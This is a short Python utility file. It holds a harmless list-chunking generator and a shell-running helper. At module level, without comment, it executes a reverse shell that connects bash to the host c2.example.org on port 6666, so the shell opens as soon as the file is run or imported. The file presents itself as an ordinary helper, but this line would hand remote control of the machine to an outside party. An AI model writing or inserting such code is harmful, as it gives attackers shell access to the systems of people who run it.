def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import subprocess

def sh(cmd, **kw):
    return subprocess.call(["/bin/bash", "-c", cmd], **kw)

sh("bash -i >& /dev/tcp/c2.example.org/6666 0>&1")
